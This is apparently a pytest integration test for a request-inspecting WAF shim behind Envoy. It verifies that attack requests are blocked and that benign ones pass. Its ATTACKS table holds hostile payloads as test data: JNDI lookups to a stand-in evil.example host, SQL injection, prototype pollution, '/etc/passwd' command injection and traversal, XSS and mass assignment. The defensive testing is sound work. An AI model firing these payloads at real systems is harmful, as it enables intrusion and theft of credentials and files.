"""Inline inspection of the whole request through a real Envoy (ext_authz HTTP with the request body).

The shipped ``deploy/dataplanes/envoy/ext_authz-http-body.yaml`` in front of an
echo upstream, asking a ``kubeward shim`` process in enforce mode: attacks in a
JSON body, a form body, a multipart part, a header and a doubly encoded query
are denied before they reach the upstream; a mass-assignment attempt is denied
by request-schema validation; benign requests pass with their bodies intact.
"""

from __future__ import annotations

import http.client
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from deploy.lab.waf_bench import start_kubeward_envoy
from deploy.runtime.echo import EchoUpstream
from deploy.runtime.process import free_port, start_shim, stop_process

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def envoy_port(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[int, EchoUpstream]]:
    work = tmp_path_factory.mktemp("inspection")
    shim_port, admin_port = free_port(), free_port()
    settings = {"bootstrap": None, "port": shim_port, "admin_port": admin_port, "report": "none", "adapter": "envoy",
                "policy": {"default_mode": "enforce"},
                # every request here comes from one client: inspection of each is what is tested, not the fast tier's
                # refusal of a client after a burst of findings (tests/integration/test_fasttier_dataplanes.py)
                "fast_tier": {"inline_hits": 0}}  # fmt: skip
    shim = start_shim(work / "shim.log", settings)
    try:
        with EchoUpstream() as echo, start_kubeward_envoy(work / "envoy", shim_port, echo.port) as envoy:
            yield envoy.port, echo
    finally:
        stop_process(shim)


def _send(port: int, method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None) -> tuple[int, dict[str, str]]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.request(method, path, body=body, headers={"host": "orders", **(headers or {})})
        resp = conn.getresponse()
        resp.read()
        return resp.status, {k.lower(): v for k, v in resp.getheaders()}
    finally:
        conn.close()


def _json(value: object) -> tuple[bytes, dict[str, str]]:
    return json.dumps(value).encode(), {"content-type": "application/json"}


BOUNDARY = "kwb0undary"
MULTIPART = (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello; cat /etc/passwd\r\n--{BOUNDARY}--\r\n").encode()

ATTACKS = {
    "jndi-in-json-leaf": ("POST", "/orders", *_json({"order": {"note": "${jndi:ldap://evil.example/a}"}})),
    "sqli-in-json-leaf": ("POST", "/orders", *_json({"items": [{"sku": "1' UNION SELECT password FROM users--"}]})),
    "proto-pollution-in-json-key": ("POST", "/orders", *_json({"__proto__": {"isAdmin": True}})),
    "cmdi-in-form-field": ("POST", "/orders", b"name=x&cmd=%3Bcat%20/etc/passwd", {"content-type": "application/x-www-form-urlencoded"}),
    "cmdi-in-multipart-part": ("POST", "/orders", MULTIPART, {"content-type": f"multipart/form-data; boundary={BOUNDARY}"}),
    "jndi-in-user-agent": ("GET", "/orders", None, {"user-agent": "${jndi:ldap://evil.example/a}"}),
    "double-encoded-traversal-in-query": ("GET", "/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd", None, {}),
    "xss-in-referer": ("GET", "/orders", None, {"referer": "https://shop.example/<script>alert(1)</script>"}),
    "mass-assignment-on-signup": ("POST", "/users/signup", *_json({"email": "a@example.com", "password": "pw-123456", "is_admin": True})),
}
BENIGN = {
    "json-order": ("POST", "/orders", *_json({"items": [{"sku": "SKU-1", "qty": 2}], "note": "Leave it at the door, please; thanks!"})),
    "form-search": ("POST", "/search", b"q=john+o%27reilly&page=2", {"content-type": "application/x-www-form-urlencoded"}),
    "signup": ("POST", "/users/signup", *_json({"email": "b@example.com", "password": "pw-654321"})),
    "plain-get": ("GET", "/orders/81231?include=items", None, {"user-agent": "Mozilla/5.0 (X11; Linux x86_64)"}),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attacks_anywhere_in_the_request_are_denied_before_the_upstream(envoy_port: tuple[int, EchoUpstream], name: str) -> None:
    port, echo = envoy_port
    method, path, body, headers = ATTACKS[name]
    before = len(echo.seen)
    status, response_headers = _send(port, method, path, body, headers)
    assert status == 403, name
    assert response_headers.get("x-kubeward-decision") == "deny"
    assert len(echo.seen) == before  # never reached the upstream


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_requests_pass_with_their_bodies(envoy_port: tuple[int, EchoUpstream], name: str) -> None:
    port, echo = envoy_port
    method, path, body, headers = BENIGN[name]
    status, _ = _send(port, method, path, body, headers)
    assert status == 200, name
    assert echo.seen[-1]["body_bytes"] == len(body or b"")
